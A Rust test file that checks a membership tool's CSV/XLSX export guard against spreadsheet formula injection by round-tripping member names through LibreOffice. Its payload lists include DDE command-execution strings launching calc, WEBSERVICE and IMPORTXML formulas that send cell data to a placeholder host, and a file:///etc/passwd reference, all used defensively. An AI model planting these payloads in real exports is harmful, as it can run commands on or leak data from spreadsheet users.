//! Downloads in a real spreadsheet: 208 payloads that a spreadsheet would take for formulas are opened
//! by LibreOffice, with every separator a person can choose and formulas switched on. None is
//! evaluated, and all come back through the import as they were. Written without our guard, the
//! same payloads are evaluated: the control.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use report::sheet::{Cell, Table, harmless, unguarded};

use super::desk::Desk;

/// What stands in front of a formula in the wild; the last five hide it behind another separator.
const FRONTS: [&str; 16] = [
    "=", "+", "-", "@", "＝", " =", "\"=", "'=", "''=", "\t=", "\r=", "\n=", "a;=", "a|=", "a\t=",
    "a;\" =",
];

/// What is to be done when it is taken for one.
const BODIES: [&str; 13] = [
    "1+1",
    "SUM(1,2)",
    "2*3",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "WEBSERVICE(\"http://example.org/\"&A1)",
    "IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")",
    "DDE(\"soffice\";\"sample\";\"A1\")",
    "INDIRECT(\"A1\")",
    "A1",
    "NOW()",
    "'file:///etc/passwd'#$passwd.A1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
];

fn payloads() -> Vec<String> {
    FRONTS
        .iter()
        .flat_map(|front| BODIES.iter().map(move |body| format!("{front}{body}")))
        .collect()
}

/// A list of members with these names, as `members list` downloads it.
fn table(names: &[String]) -> Table {
    Table {
        name: "Members",
        head: ["number", "name", "joined"].map(str::to_owned).to_vec(),
        rows: (1..)
            .zip(names)
            .map(|(number, name)| {
                vec![
                    Cell::Number(number),
                    Cell::Text(name.clone()),
                    Cell::Text("2020-01-01".into()),
                ]
            })
            .collect(),
    }
}

/// LibreOffice with a profile of its own.
struct Office {
    folder: tempfile::TempDir,
}

impl Office {
    fn new() -> Office {
        Office {
            folder: tempfile::tempdir().unwrap(),
        }
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.folder.path().join(name);
        fs::write(&path, bytes).unwrap();
        path
    }

    /// Opens a file and saves it in another form; a CSV file with these separators, and formulas
    /// evaluated where something looks like one.
    fn save_as(&self, file: &Path, form: &str, separators: Option<&str>) -> PathBuf {
        let profile = format!(
            "-env:UserInstallation=file://{}/profile",
            self.folder.path().display()
        );
        let out = self.folder.path().join("saved");
        let wanted = match form {
            "csv" => "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0",
            other => other,
        };
        let mut soffice = Command::new("soffice");
        soffice.args([
            &profile,
            "--headless",
            "--norestore",
            "--convert-to",
            wanted,
        ]);
        if let Some(separators) = separators {
            // Separators, quote, UTF-8, from line 1, columns, language, quoted fields as text: no,
            // special numbers: yes, three of export, sheet, formulas: yes.
            soffice.arg(format!(
                "--infilter=Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,true,false,false,false,0,true"
            ));
        }
        let done = soffice
            .arg("--outdir")
            .arg(&out)
            .arg(file)
            .output()
            .expect("soffice (Debian: libreoffice-calc-nogui) runs");
        let saved = out.join(file.file_name().unwrap()).with_extension(form);
        assert!(done.status.success() && saved.exists(), "{done:?}");
        saved
    }

    /// The file as LibreOffice understood it: flat ODF text, in which a formula is an attribute.
    fn understood(&self, file: &Path, separators: Option<&str>) -> String {
        fs::read_to_string(self.save_as(file, "fods", separators)).unwrap()
    }
}

fn formulas(understood: &str) -> usize {
    understood.matches("table:formula=").count()
}

#[test]
fn no_payload_is_evaluated_and_written_without_our_guard_it_is() {
    let office = Office::new();
    let payloads = payloads();
    assert!(payloads.len() >= 200);
    let ours = table(&payloads);
    let csv = office.write("ours.csv", ours.to_csv().as_bytes());
    // Comma; comma, semicolon and tab, as the dialog proposes them; and each wrong one alone.
    for separators in ["44", "44/59/9", "59", "9", "124"] {
        let seen = office.understood(&csv, Some(separators));
        assert_eq!(formulas(&seen), 0, "separators {separators}");
        assert!(seen.contains("rundll32"), "separators {separators}");
    }
    let book = office.write("ours.xlsx", &ours.to_xlsx().unwrap());
    assert_eq!(formulas(&office.understood(&book, None)), 0);

    let mut raw = csv::Writer::from_writer(Vec::new());
    for payload in &payloads {
        raw.write_record(["1", payload, "2020-01-01"]).unwrap();
    }
    let raw = office.write("raw.csv", &raw.into_inner().unwrap());
    let seen = office.understood(&raw, Some("44"));
    assert!(formulas(&seen) >= BODIES.len(), "{}", formulas(&seen));
    assert!(
        seen.contains("table:formula=\"of:=1+1\" office:value-type=\"float\" office:value=\"2\"")
    );
    // What hides behind a semicolon comes alive where semicolons part cells.
    assert!(formulas(&office.understood(&raw, Some("59"))) >= 1);
    let live = office.save_as(&raw, "xlsx", Some("44"));
    assert!(formulas(&office.understood(&live, None)) >= BODIES.len());
}

#[test]
fn names_like_formulas_come_back_through_libreoffice_as_they_were() {
    let office = Office::new();
    // A name has no control characters, and no spaces at its ends.
    let names: Vec<String> = payloads()
        .into_iter()
        .filter(|name| !name.contains(char::is_control))
        .map(|name| name.trim().to_owned())
        .collect();
    assert!(names.len() >= 150);
    let first = Desk::empty();
    let society = "[society]\nslug = \"bes\"\nname = \"Test Society\"\n\n[[officer]]\nid = \"secretary\"\nrole = \"secretary\"\n";
    first.ok(&["society", "apply", &first.file("bes.toml", society)]);
    let file = first.file("names.csv", &table(&names).to_csv());
    first.ok(&["members", "import", &file, "--as", "secretary"]);
    let out = |name: &str| office.folder.path().join(name).display().to_string();
    for form in ["csv", "xlsx"] {
        let to = out(&format!("list.{form}"));
        first.ok(&["members", "list", "--format", form, "--out", &to]);
    }
    let ways = [
        ("list.csv", Some("44"), "csv"),
        ("list.csv", Some("44/59/9"), "xlsx"),
        ("list.xlsx", None, "csv"),
        ("list.xlsx", None, "xlsx"),
    ];
    for (from, separators, form) in ways {
        let saved = office.save_as(&office.folder.path().join(from), form, separators);
        let again = Desk::empty();
        again.ok(&["society", "apply", &again.file("bes.toml", society)]);
        let saved = saved.display().to_string();
        again.ok(&["members", "import", &saved, "--as", "secretary"]);
        let listed = again.json(&["members", "list"]);
        let back: Vec<&str> = listed
            .as_array()
            .unwrap()
            .iter()
            .map(|line| line["name"].as_str().unwrap())
            .collect();
        assert_eq!(back, names, "{from} saved as {form}");
    }
}

#[test]
fn every_payload_is_guarded_and_its_guard_is_undone() {
    for payload in payloads() {
        assert_eq!(unguarded(&harmless(&payload)), payload);
        // A formula of ours in a formula's clothes: guarded twice, undone once.
        let twice = harmless(&harmless(&payload));
        assert_eq!(unguarded(&twice), harmless(&payload));
    }
}
